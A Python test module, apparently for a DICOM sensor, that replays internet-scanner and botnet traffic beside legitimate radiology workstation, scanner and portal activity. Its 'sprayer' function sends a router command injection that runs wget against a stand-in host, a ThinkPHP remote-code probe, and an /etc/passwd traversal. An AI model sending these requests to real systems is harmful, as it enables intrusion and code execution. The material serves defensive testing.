"""Those who look at everything every day and mean nobody, and those who do their work."""

from __future__ import annotations

import contextlib
from concurrent.futures import ThreadPoolExecutor

from pynetdicom import build_context

from tests.analyst.uploads import clean_ct
from tests.sensor.scu import (
    STUDY_FIND,
    SYNTAXES,
    VERIFICATION,
    associate,
    encoded,
    find,
    keys,
    store_bytes,
)

from .archive import fetch, own_worklist, touch
from .means import (
    Target,
    asked,
    connected,
    probe,
    request_pdu,
    sent,
    tool,
)
from .protocol import shook_hands
from .web import sprayed


def nmap_versions(target: Target) -> None:
    ports = ",".join(str(port) for port in (target.dicom, target.web, target.web_tls) if port)
    tool("nmap", "-Pn", "-n", "-sT", "-sV", "-T4", "-p", ports, target.host, timeout=400)


def nmap_ping(target: Target) -> None:
    tool("nmap", "-Pn", "-n", "-sT", "--script", "+dicom-ping", "-p", target.dicom, target.host)


NICE = b"GET /nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.0\r\n\r\n"
PROBES = (
    b"GET / HTTP/1.0\r\n\r\n",
    b"OPTIONS / HTTP/1.0\r\n\r\n",
    NICE,
    bytes.fromhex("05000b03100000004800000001000000b810b810000000000100000000000100"),
    b"\5\1\0",
    b"\4\1\0\x50\xb9\xf7\x89\x8b\0",
    bytes.fromhex("8000002872fe1d130000000000000002000186a00001977c0000000000000000"),
    b"\x03\x00\x00\x2f\x2a\xe0\x00\x00\x00\x00\x00Cookie: mstshash=eltons\r\n\x01\x00\x08\x00\x03\x00\x00\x00",
    b"OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/TCP nm;branch=foo\r\nFrom: <sip:nm@nm>;tag=root\r\n\r\n",
    bytes.fromhex("001e0006010000010000000000000776657273696f6e0462696e640000100003"),
    b"l\0\x0b\0\0\0\0\0\0\0\0\0",
    bytes.fromhex("000000a4ff534d4272000000000801400000000000000000000000000000400600000100"),
    bytes.fromhex("00000054fe534d4240000000000000000000000000000000"),
    b"*1\r\n$4\r\nINFO\r\n",
    bytes.fromhex("1201003400000000000015000601001b000102001c000c0300280004ff080001"),
    bytes.fromhex("3a000000a741000000000000d40700000000000061646d696e2e24636d6400"),
    bytes.fromhex("300c020101600702010304008000"),
    bytes.fromhex("005a0000010000000136012c000008007fff7f080000000100"),
    b"\x13/multistream/1.0.0\n",
    b"fox a 1 -1 fox hello\n{\nfox.version=s:1.0\nid=i:1\n};;\n",
    b"stats\r\n",
    bytes.fromhex("f9beb4d976657273696f6e0000000000650000005f1a69d2"),
    b"HELF\x20\0\0\0\0\0\0\0\0\0\1\0\0\0\1\0",
    b"OPTIONS / RTSP/1.0\r\n\r\n",
    b"<stream:stream xmlns='jabber:client' version='1.0'>",
    bytes.fromhex("16030100750100007103035a" + "00" * 40),
    b"HELP\r\n",
    b"\r\n\r\n",
    b"\1default\n",
    bytes.fromhex("010000fdcefa0bb0a00000004d4d53"),
    b"JRMI\0\2K",
    b"GIOP\1\0\1\0\x24\0\0\0\0\0\0\0",
    b"\x10\x10\0\4MQTT\4\2\0\x3c\0\4abcd",
    b"SSH-2.0-Go\r\n",
    b"Friendly Portscanner\r\n",
)
"""What one operator's run has, and more like it: each on a connection of its own."""


def driftnet(target: Target) -> None:
    """Its run against the DICOM port, and half of it against the web."""
    _run(target, [*((target.dicom, data) for data in PROBES), *((target.web, data) for data in PROBES[::2])])


def driftnet_on_the_web(target: Target) -> None:
    _run(target, [(target.web, data) for data in PROBES])


def _run(target: Target, probes: list[tuple[int, bytes]]) -> None:
    def one(what: tuple[int, bytes]) -> None:
        port, data = what
        sent(target, data, port, wait=0.5)

    association = _driftnets_association()
    with ThreadPoolExecutor(4) as pool:
        list(pool.map(one, [*probes, (probes[-1][0], association), (target.dicom, association)]))


def _driftnets_association() -> bytes:
    return request_pdu().replace(b"Q\0\0\4\0\0\x40\0", b"Q\0\0\4\0\0\0\0")


def censys(target: Target) -> None:
    for path in ("/", "/favicon.ico"):
        asked(
            target, "GET", path, User_Agent="Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)"
        )
    if target.web_tls:
        shook_hands(target)
    probe(target)
    asked(target, "GET", "/.well-known/security.txt", User_Agent="Mozilla/5.0 (compatible; CensysInspect/1.1)")


def shodan(target: Target) -> None:
    touch(target)
    for path in ("/", "/robots.txt", "/sitemap.xml", "/.well-known/security.txt", "/favicon.ico"):
        asked(target, "GET", path)
    probe(target)
    echo_sweep(target)


def zgrab(target: Target) -> None:
    asked(target, "GET", "/", User_Agent="Mozilla/5.0 zgrab/0.x")
    sent(target, b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\nAccept: */*\r\n\r\n")


def expanse(target: Target) -> None:
    asked(
        target, "GET", "/", User_Agent="Expanse, a Palo Alto Networks company, searches across the global IPv4 space"
    )
    sent(target, NICE)
    probe(target)


def old_nmap(target: Target) -> None:
    """As nmap before 7.96, whose first reserved byte is a character."""
    with connected(target) as sock:
        sock.sendall(request_pdu(reserved=b"0".ljust(32, b"\0")))
        sock.recv(4096)


def aimap(target: Target) -> None:
    probe(target, "ORTHANC", "AIMAP")


def echo_sweep(target: Target) -> None:
    for _ in range(3):
        with associate(target.address, [VERIFICATION], title="ECHOSCU") as association:
            association.send_c_echo()


def banner(target: Target) -> None:
    with connected(target) as sock:
        sock.settimeout(2)
        with contextlib.suppress(OSError):
            sock.recv(100)
    sent(target, b"Friendly Portscanner\r\n")


def sprayer(target: Target) -> None:
    """A botnet that looks for products that aren't here."""
    sprayed(target)
    for path in (
        "/.env",
        "/.git/config",
        "/wp-login.php",
        "/phpinfo.php",
        "/server-status",
        "/HNAP1/",
        "/solr/admin",
    ):
        asked(target, "GET", path)
    asked(
        target,
        "GET",
        "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget%20http://198.51.100.9/a)",
    )
    asked(target, "GET", "/index.php?s=/Index/think/app/invokefunction&function=call_user_func_array&vars[0]=md5")
    asked(target, "GET", "/../../../../etc/passwd")


# Those who do their work


def workstation(target: Target) -> None:
    """A radiologist looks for a patient, at what there is, and fetches one study."""
    with associate(target.address, [VERIFICATION, STUDY_FIND], title="WS1") as association:
        association.send_c_echo()
        fields = dict.fromkeys(("PatientID", "StudyInstanceUID", "StudyDate", "ModalitiesInStudy"), "")
        found, _ = find(association, keys(QueryRetrieveLevel="STUDY", PatientName="A*", **fields))
        study = str(found[0].StudyInstanceUID)
        series = keys(QueryRetrieveLevel="SERIES", StudyInstanceUID=study, SeriesInstanceUID="", Modality="")
        find(association, series)
    fetch(target, [study])


def modality(target: Target) -> None:
    """A scanner reads its worklist and sends three images of a series."""
    own_worklist(target)
    first = clean_ct()
    with associate(target.address, [build_context(first.SOPClassUID, [SYNTAXES[1]])], title="CT01") as association:
        for number in range(1, 4):
            data = clean_ct()
            data.StudyInstanceUID, data.SeriesInstanceUID = first.StudyInstanceUID, first.SeriesInstanceUID
            data.InstanceNumber = number
            accepted = association.accepted_contexts[0]
            store_bytes(association, accepted, data.SOPClassUID, data.SOPInstanceUID, encoded(data))


def typist(target: Target) -> None:
    """Somebody comes to the portal, types a password wrong once, and goes."""
    for path in ("/", "/favicon.ico"):
        asked(
            target, "GET", path, User_Agent="Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
        )
    asked(target, "GET", "/dicom-web/studies?PatientName=BRANDT%5EILSE&limit=5", user=("k.whitfield", "Sumer2026"))
